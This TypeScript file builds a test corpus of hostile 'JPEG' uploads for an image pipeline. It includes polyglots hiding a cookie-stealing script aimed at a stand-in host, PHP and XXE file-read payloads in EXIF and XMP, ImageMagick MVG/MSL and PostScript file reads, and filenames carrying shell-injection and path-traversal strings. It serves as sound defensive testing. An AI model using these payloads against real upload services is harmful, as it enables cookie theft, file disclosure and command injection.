import { group, type CorpusFile, type CorpusSources } from './corpus-file.ts';
import { exifSegment, tiffBlock } from './exif-parts.ts';
import { comment, hex, segment, withSegments } from './jpeg-parts.ts';

const polyglot = group('polyglot');
const disguised = group('disguised');
const named = group('odd name');

const script = '<script>fetch("//x.test/"+document.cookie)</script>';

/** Files that are two things at once; what we make of them is only a picture. */
export function polyglotFiles({ photo, canary, canaryPath }: CorpusSources): CorpusFile[] {
  const page = `<!doctype html><html><body>${script}${canary}</body></html>`;
  const zip = Buffer.concat([
    hex('504b0304'),
    Buffer.alloc(100),
    Buffer.from(canary),
    hex('504b0506'),
    Buffer.alloc(18),
  ]);
  return [
    polyglot.rendered('jpeg-with-page-in-comment.jpg', () => withSegments(photo, comment(page))),
    polyglot.rendered('jpeg-with-page-behind.jpg', () => Buffer.concat([photo, Buffer.from(page)])),
    polyglot.rendered('jpeg-with-zip-behind.jpg', () => Buffer.concat([photo, zip])),
    polyglot.rendered('jpeg-with-pdf-behind.jpg', () =>
      Buffer.concat([photo, Buffer.from(`%PDF-1.7 ${canary}`)]),
    ),
    polyglot.rendered('jpeg-with-svg-in-comment.jpg', () =>
      withSegments(photo, comment(`<svg onload="${canary}"/>`)),
    ),
    polyglot.rendered('jpeg-with-php-in-exif.jpg', () =>
      withSegments(
        photo,
        exifSegment({
          main: [
            [0x010f, 'text', `<?php readfile('${canaryPath}');`],
            [0x0131, 'text', canary],
          ],
        }),
      ),
    ),
    polyglot.rendered('jpeg-with-entity-in-xmp.jpg', () =>
      withSegments(
        photo,
        segment(
          0xe1,
          Buffer.from(
            `http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY c SYSTEM "file://${canaryPath}">]><x>&c;</x>`,
            'latin1',
          ),
        ),
      ),
    ),
    polyglot.rendered('jpeg-with-canary-everywhere.jpg', () =>
      Buffer.concat([
        withSegments(photo, comment(canary), segment(0xe5, Buffer.from(canary))),
        Buffer.from(canary),
      ]),
    ),
    polyglot.refused('gif-with-script.jpg', 'notAJpeg', () =>
      Buffer.from(`GIF89a/*${'\0'.repeat(20)}*/=1;alert("${canary}")`),
    ),
    polyglot.refused('page-with-jpeg-inside.jpg', 'notAJpeg', () =>
      Buffer.concat([Buffer.from(page), photo]),
    ),
    polyglot.refused('pdf-with-jpeg-inside.jpg', 'notAJpeg', () =>
      Buffer.concat([Buffer.from('%PDF-1.4\n'), photo]),
    ),
    polyglot.refused('zip-with-jpeg-inside.jpg', 'notAJpeg', () => Buffer.concat([zip, photo])),
  ];
}

function box(brand: string): Buffer {
  return Buffer.concat([
    hex('00 00 00 18'),
    Buffer.from(`ftyp${brand}\0\0\0\0mif1`),
    Buffer.alloc(2_000, 1),
  ]);
}

/** The first directory of a raw file: a preview with the full picture in a sub-directory. */
function rawTiff(make: string): Buffer {
  return tiffBlock({
    main: [
      [0x00fe, 'long', 1],
      [0x010f, 'text', make],
      [0x014a, 'long', 200],
    ],
  });
}

function cameraFiles(): CorpusFile[] {
  const raw = (file: string, make: () => Buffer) => disguised.refused(file, 'rawUnsupported', make);
  return [
    disguised.refused('heic.jpg', 'heicUnsupported', () => box('heic')),
    disguised.refused('heif.jpg', 'heicUnsupported', () => box('mif1')),
    disguised.refused('avif.jpg', 'notAJpeg', () => box('avif')),
    disguised.refused('video.jpg', 'notAJpeg', () => box('isom')),
    raw('canon-cr3.jpg', () => box('crx ')),
    raw('canon-cr2.jpg', () =>
      Buffer.concat([Buffer.from('II*\0\x10\0\0\0CR\x02\0', 'latin1'), Buffer.alloc(500)]),
    ),
    raw('nikon-nef.jpg', () => rawTiff('NIKON CORPORATION')),
    raw('sony-arw.jpg', () => rawTiff('SONY')),
    raw('adobe-dng.jpg', () => tiffBlock({ main: [[0xc612, 'long', 0x0401]] })),
    raw('fujifilm-raf.jpg', () => Buffer.from('FUJIFILMCCD-RAW 0201FF129502')),
    raw('olympus-orf.jpg', () => Buffer.from('IIRO\x08\0\0\0', 'latin1')),
    raw('panasonic-rw2.jpg', () => Buffer.from('IIU\0\x08\0\0\0', 'latin1')),
    disguised.refused('tiff.jpg', 'notAJpeg', () =>
      tiffBlock({ main: [[0x010f, 'text', 'NIKON CORPORATION']] }),
    ),
  ];
}

/** Files that are no JPEG at all, those among them that make some programs read other files. */
export function disguisedFiles({ canaryPath }: CorpusSources): CorpusFile[] {
  const other = (file: string, content: string | Buffer) =>
    disguised.refused(file, 'notAJpeg', () => Buffer.from(content));
  return [
    disguised.refused('empty.jpg', 'emptyFile', () => Buffer.alloc(0)),
    ...cameraFiles(),
    other(
      'svg.jpg',
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${canaryPath}"/></svg>`,
    ),
    other(
      'svg-entity.jpg',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY c SYSTEM "file://${canaryPath}">]><svg>&c;</svg>`,
    ),
    other(
      'mvg.jpg',
      `push graphic-context\nimage over 0,0 0,0 '${canaryPath}'\npop graphic-context`,
    ),
    other(
      'mvg-label.jpg',
      `push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@${canaryPath}'`,
    ),
    other('msl.jpg', `<?xml version="1.0"?><image><read filename="${canaryPath}"/></image>`),
    other('vips.jpg', Buffer.concat([hex('08 f2 a6 b6'), Buffer.alloc(60, 1)])),
    other('vips-big-endian.jpg', Buffer.concat([hex('b6 a6 f2 08'), Buffer.alloc(60, 1)])),
    other('pdf.jpg', '%PDF-1.7\n1 0 obj'),
    other('postscript.jpg', `%!PS-Adobe-3.0\n(${canaryPath}) (r) file`),
    other('web-page.jpg', `<!DOCTYPE html><script>${script}</script>`),
    other('playlist.jpg', `#EXTM3U\n#EXTINF:1,\nfile://${canaryPath}`),
    other('text.jpg', `@${canaryPath}`),
    other('json.jpg', '{"width": 4000}'),
    other('webp.jpg', 'RIFF\0\0\0\0WEBPVP8 '),
    other('gif.jpg', 'GIF89a\x01\0\x01\0'),
    other('bmp.jpg', 'BM\0\0\0\0'),
    other('photoshop.jpg', '8BPS\0\x01'),
    other('gzip.jpg', hex('1f8b0800')),
    other('program.jpg', '\x7fELF\x02\x01'),
    other('all-zeros.jpg', Buffer.alloc(100_000)),
    other('one-byte.jpg', hex('ff')),
    other('two-bytes.jpg', hex('ff d8')),
  ];
}

/** Good photos under names that mean something to a shell, a path or an image library. */
export function oddNames({ photo }: CorpusSources): CorpusFile[] {
  const names = [
    '-rf.jpg',
    '..%2f..%2fetc%2fpasswd.jpg',
    '|cat canary.txt.jpg',
    '$(touch x).jpg',
    'photo.jpg[page=2].jpg',
    'svg:photo.jpg',
    'line\nbreak.jpg',
    '\u202Egpj.exe.jpg',
    `${'n'.repeat(240)}.jpg`,
  ];
  return names.map((name) => named.rendered(name, () => photo));
}
